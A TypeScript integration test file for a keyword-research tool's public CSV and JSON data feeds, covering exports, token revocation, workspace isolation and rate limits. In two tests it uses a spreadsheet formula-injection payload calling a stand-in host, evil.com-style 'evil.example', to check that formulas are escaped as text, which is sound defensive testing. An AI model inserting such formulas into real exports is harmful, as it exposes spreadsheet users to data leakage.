import Papa from 'papaparse'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { contentPlanContract } from '../../src/features/content-plan/contract.ts'
import { type DataFeed, dataFeedsContract, type FeedKind } from '../../src/features/data-feeds/contract.ts'
import { dataFeedErrorTexts } from '../../src/features/data-feeds/web/error-texts.ts'
import { listsContract } from '../../src/features/keywords/contract.ts'
import { listenersContract } from '../../src/features/listeners/contract.ts'
import { ranksContract } from '../../src/features/ranks/contract.ts'
import { reportsContract } from '../../src/features/reports/contract.ts'
import { createSampleReport } from '../support/sample-report.ts'
import { startTestServer, type TestServer } from '../support/server.ts'
import { until } from '../support/wait-until.ts'

let server: TestServer
let stop: () => Promise<void>
beforeAll(async () => {
  server = await startTestServer()
  stop = await server.app.start({ alone: false })
})
afterAll(async () => {
  await stop?.()
  await server?.close()
})

type Person = Awaited<ReturnType<TestServer['signUp']>>

const add = async ({ call, workspaceId }: Person, kind: FeedKind, source_id: string, section?: 'questions') =>
  (await call(dataFeedsContract.add, { workspace_id: workspaceId, kind, source_id, section })).feed

/** As a spreadsheet reads it: no session, no headers. */
const open = (url: string) => fetch(url.replace('http://earshot.test', server.url))
async function readCsv(feed: DataFeed) {
  const response = await open(feed.csv_url)
  expect(response.status).toBe(200)
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  return Papa.parse<Record<string, string>>((await response.text()).replace(/^\ufeff/, ''), {
    header: true,
    skipEmptyLines: true,
  }).data
}
const readRows = async (feed: DataFeed) =>
  ((await (await open(feed.json_url)).json()) as { rows: Record<string, unknown>[] }).rows

const addList = async ({ call, workspaceId }: Person, texts: string[]) =>
  (
    await call(listsContract.add, {
      workspace_id: workspaceId,
      name: `List ${crypto.randomUUID()}`,
      items: texts.map((text) => ({ text })),
    })
  ).list._id

test('a report, a list, a listener and a plan are read as CSV and JSON without signing in', async () => {
  const who = await server.signUp('starter')
  const reportId = await createSampleReport(who)
  const report = await add(who, 'report', reportId)
  expect(report).toMatchObject({ title: 'cold brew coffee', section: null, made_by: who.email, last_read_at: null })
  const keywords = await readCsv(report)
  expect(keywords.length).toBeGreaterThan(50)
  expect(keywords[0]!.Keyword).toEqual(expect.any(String))
  expect((await readRows(report)).length).toBe(keywords.length)
  const questions = await add(who, 'report', reportId, 'questions')
  expect(questions._id).not.toBe(report._id)
  expect((await readCsv(questions)).length).toBeLessThan(keywords.length)

  const listId = await addList(who, ['cold brew ratio', 'espresso machine cleaning', 'oat milk foam'])
  const list = await add(who, 'list', listId)
  expect((await readCsv(list)).map(({ Keyword }) => Keyword).sort()).toEqual([
    'cold brew ratio',
    'espresso machine cleaning',
    'oat milk foam',
  ])
  expect(await readRows(list)).toHaveLength(3)

  const input = { workspace_id: who.workspaceId, name: 'Winter', list_id: listId }
  const { plan } = await who.call(contentPlanContract.new, input)
  const planFeed = await add(who, 'plan', plan._id)
  const [item] = await readCsv(planFeed)
  expect(Object.keys(item!)).toContain('Title')
  expect(Object.keys(item!)).not.toContain('Owner')

  const { listener } = await who.call(listenersContract.add, {
    workspace_id: who.workspaceId,
    ...{ keyword: 'cold brew coffee', country: 'US', language: 'en', frequency: 'weekly', sources: ['sample'] },
  })
  await until('the first run', async () => {
    const { listener: now } = await who.call(listenersContract.single, { _id: listener._id })
    return now.run_count > 0 && !now.running
  })
  const heard = await readCsv(await add(who, 'listener', listener._id))
  expect(heard.length).toBeGreaterThan(10)
  expect(Object.keys(heard[0]!)).toEqual(['Keyword', 'Type', 'State', 'Sources', 'First seen', 'Last seen'])
})

/** A tracker with checked keywords, as a source of results pages leaves it. No keywords: it wasn't checked yet. */
async function addTracker(workspaceId: string, keywords: Record<string, unknown>[]) {
  const { rows } = await server.database.pool.query<{ id: string }>(
    `insert into rank_trackers (workspace_id, id, domain, competitors, country, language, device, depth, frequency, source, status)
     values ($1, gen_random_uuid(), 'hollowoak.example/shop', '{fernway.example}', 'US', 'en', 'mobile', 20, 'weekly', 'serper',
       'paused')
     returning id`,
    [workspaceId],
  )
  const id = rows[0]!.id
  for (const [no, { text, position = null, reason = null, checked_at = null, ...rest }] of keywords.entries())
    await server.database.pool.query(
      `insert into rank_keywords (workspace_id, tracker_id, no, text, position, reason, checked_at, previous, previous_at, best,
         url, features)
       values ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12)`,
      [
        ...[
          workspaceId,
          id,
          no + 1,
          text,
          position,
          reason,
          checked_at,
          rest.previous ?? null,
          rest.previous_at ?? null,
        ],
        ...[rest.best ?? null, rest.url ?? null, rest.features ?? []],
      ],
    )
  return id
}

test('a rank tracker’s feed has a row per keyword, and says why a position is missing', async () => {
  const who = await server.signUp()
  const [before, now] = ['2026-03-02T09:00:00.000Z', '2026-03-09T09:00:00.000Z']
  const url = 'https://hollowoak.example/shop/cold-brew'
  const features = ['ai_overview', 'people_also_ask']
  const id = await addTracker(who.workspaceId, [
    { text: 'a cold brew', position: 1, checked_at: now, previous: 4, previous_at: before, best: 1, url, features },
    { text: 'b ratio', reason: 'not_in_depth', checked_at: now, previous: 7, previous_at: before, best: 7 },
    { text: 'c filter', reason: 'failed', checked_at: now, previous: 3, previous_at: before, best: 3 },
    { text: 'd jar', reason: 'budget', checked_at: now },
    { text: 'e kit' },
    { text: '=importxml("http://evil.example","//a")', reason: 'skipped', checked_at: now },
  ])
  const feed = await add(who, 'tracker', id)
  expect(feed).toMatchObject({ kind: 'tracker', title: 'hollowoak.example/shop', section: null })
  const rows = await readCsv(feed)
  const alike = { Device: 'mobile', Country: 'US', Language: 'en' }
  const of = (start: string) => rows.find(({ Keyword }) => Keyword!.startsWith(start))
  expect(rows).toHaveLength(6)
  expect(of('a ')).toEqual({
    ...{ Keyword: 'a cold brew', Position: '1', 'No position because': '', Checked: now, 'Previous position': '4' },
    ...{ Change: 'up', 'Best position': '1', 'Ranking URL': url, ...alike, 'SERP features': features.join(', ') },
    // The first result of one measured keyword, and nothing of the other: half of .276 of .863.
    'Share of voice of the tracker': '0.1599',
  })
  expect(of('b ')).toMatchObject({
    Position: '',
    'No position because': 'not found',
    Change: 'lost',
    'Best position': '7',
  })
  expect(of('c ')).toMatchObject({
    Position: '',
    'No position because': 'check failed',
    Change: 'unknown',
    Checked: now,
  })
  expect(of('c ')).toMatchObject({ 'Previous position': '3', 'Ranking URL': '' })
  expect(of('d ')).toMatchObject({ Position: '', 'No position because': 'over the limit' })
  expect(of('e ')).toMatchObject({ Position: '', 'No position because': 'not checked yet', Checked: '', ...alike })
  expect(of("'=")).toMatchObject({
    Keyword: '\'=importxml("http://evil.example","//a")',
    'No position because': 'skipped',
  })

  const json = (await (await open(feed.json_url)).json()) as { meta: object; rows: object[] }
  expect(json.meta).toEqual({
    'Last run': '',
    Depth: '20',
    'Share of voice: hollowoak.example/shop': '0.1599',
    'Share of voice: fernway.example': '0',
  })
  expect(json.rows).toContainEqual(
    expect.objectContaining({ keyword: 'c filter', position: null, no_position: 'check failed', previous: 3 }),
  )
})

test('a tracker without a measurement has no share of voice; deleted or of another workspace, it isn’t found', async () => {
  const [who, other] = [await server.signUp(), await server.signUp()]
  const id = await addTracker(who.workspaceId, [{ text: 'cold brew' }])
  const feed = await add(who, 'tracker', id)
  const [row] = await readCsv(feed)
  expect(Object.keys(row!)).not.toContain('Share of voice of the tracker')
  const json = (await (await open(feed.json_url)).json()) as { meta: object }
  expect(json.meta).toEqual({ 'Last run': '', Depth: '20' })
  await expect(add(other, 'tracker', id)).rejects.toMatchObject({ code: 'not_found' })
  await expect(add(who, 'tracker', id, 'questions')).rejects.toMatchObject({ options: { field: 'section' } })
  await who.call(ranksContract.delete, { _id: id })
  expect((await open(feed.csv_url)).status).toBe(404)
})

test('a feed follows its table, is the same when asked for again, and says when it was read', async () => {
  const who = await server.signUp()
  const listId = await addList(who, ['cold brew ratio'])
  const feed = await add(who, 'list', listId)
  expect(await readCsv(feed)).toHaveLength(1)
  await who.call(listsContract.addItems, { _id: listId, items: [{ text: 'oat milk foam' }] })
  expect(await readCsv(feed)).toHaveLength(2)
  expect((await add(who, 'list', listId))._id).toBe(feed._id)
  const { items } = await who.call(dataFeedsContract.list, { workspace_id: who.workspaceId })
  expect(items).toMatchObject([{ _id: feed._id, csv_url: feed.csv_url, last_read_at: expect.any(String) }])
})

test('formulas arrive as text', async () => {
  const who = await server.signUp()
  const formula = '=importxml("http://evil.example","//a")'
  const feed = await add(who, 'list', await addList(who, [formula, '+1', '@sum(a1)']))
  const texts = (await readCsv(feed)).map(({ Keyword }) => Keyword!)
  expect(texts).toHaveLength(3)
  for (const text of texts) expect(text).toMatch(/^'/)
})

test('a revoked feed, a wrong token and the feed of something deleted answer 404', async () => {
  const who = await server.signUp()
  const listId = await addList(who, ['cold brew ratio'])
  const feed = await add(who, 'list', listId)
  const forged = feed.csv_url.replace(/.(?=\/data\.csv)/, (sign) => (sign === 'A' ? 'B' : 'A'))
  expect((await open(forged)).status).toBe(404)
  expect((await open(feed.csv_url.replace('data.csv', 'data.exe'))).status).toBe(400)
  await who.call(dataFeedsContract.remove, { _id: feed._id })
  expect((await open(feed.csv_url)).status).toBe(404)
  const renewed = await add(who, 'list', listId)
  expect(renewed.csv_url).not.toBe(feed.csv_url)
  await who.call(listsContract.remove, { _id: listId })
  expect((await open(renewed.csv_url)).status).toBe(404)
  const reportId = await createSampleReport(who)
  const report = await add(who, 'report', reportId)
  await who.call(reportsContract.delete, { _id: reportId })
  expect((await open(report.csv_url)).status).toBe(404)
})

test('what is in another workspace can’t be fed, and viewers can’t create feeds', async () => {
  const [who, other] = [await server.signUp(), await server.signUp()]
  const listId = await addList(who, ['cold brew ratio'])
  await expect(add(other, 'list', listId)).rejects.toMatchObject({ code: 'not_found' })
  await expect(add(who, 'report', listId)).rejects.toMatchObject({ code: 'not_found' })
  await expect(add(who, 'list', listId, 'questions')).rejects.toMatchObject({ options: { field: 'section' } })
})

test('a feed is read at most 120 times an hour', async () => {
  const who = await server.signUp()
  const feed = await add(who, 'list', await addList(who, ['cold brew ratio']))
  await server.database.pool.query(
    `insert into rate_counts (bucket, count, resets_at) values ($1, 119, now() + interval '20 minutes')`,
    [`data-feed:${feed._id}`],
  )
  expect((await open(feed.csv_url)).status).toBe(200)
  const refused = await open(feed.csv_url)
  expect(refused.status).toBe(429)
  expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(60)
  const { error } = (await refused.json()) as { error: { reason: string } }
  expect(Object.keys(dataFeedErrorTexts.reasons)).toContain(error.reason)
})
